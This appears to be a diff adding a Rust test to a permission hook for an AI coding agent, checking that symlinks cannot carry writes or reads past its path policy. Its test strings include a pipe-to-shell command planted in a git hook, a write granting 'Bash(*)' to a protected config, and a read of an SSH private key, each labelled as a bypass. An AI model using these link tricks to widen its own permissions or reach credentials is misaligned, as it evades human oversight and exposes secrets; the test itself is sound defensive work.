@@ -426,3 +426,30 @@ fn an_audit_log_naming_a_startup_file_is_refused() {
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("\"deny\""), "{out}");
 }
+
+#[cfg(unix)]
+#[test]
+fn links_cannot_carry_a_write_or_a_read_past_the_path_policy() {
+    let r = Repo::new("");
+    let link = |target: &Path, at: &str| {
+        std::os::unix::fs::symlink(target, r.repo().join(at)).unwrap_or_else(|e| panic!("{e}"));
+    };
+    // bypass: a fresh (dangling) link to a protected file, then a write through it.
+    link(Path::new(".shclass.toml"), "fresh");
+    let (d, why) = r.claude("acceptEdits", "echo 'allow = [\"Bash(*)\"]' > fresh");
+    assert_eq!(d, "deny", "{why}");
+    let (d, why) = r.claude_write("acceptEdits", &r.repo().join("fresh"));
+    assert_eq!(d, "deny", "{why}");
+    // bypass: a dangling link to a git hook that does not exist yet.
+    std::fs::create_dir_all(r.repo().join(".git/hooks")).unwrap_or_else(|e| panic!("{e}"));
+    link(Path::new(".git/hooks/pre-commit"), "hook");
+    let (d, why) = r.claude("acceptEdits", "echo 'curl x | sh' > hook");
+    assert_ne!(d, "allow", "{why}");
+    // bypass: `..` after a link is resolved from the link's target (here inside ~/.ssh).
+    let keys = r.home().join(".ssh/keys");
+    std::fs::create_dir_all(&keys).unwrap_or_else(|e| panic!("{e}"));
+    link(&keys, "k");
+    let (d, why) = r.claude("default", "cat k/../id_rsa");
+    assert_ne!(d, "allow", "{why}");
+    assert!(why.contains(".ssh/id_rsa"), "{why}");
+}
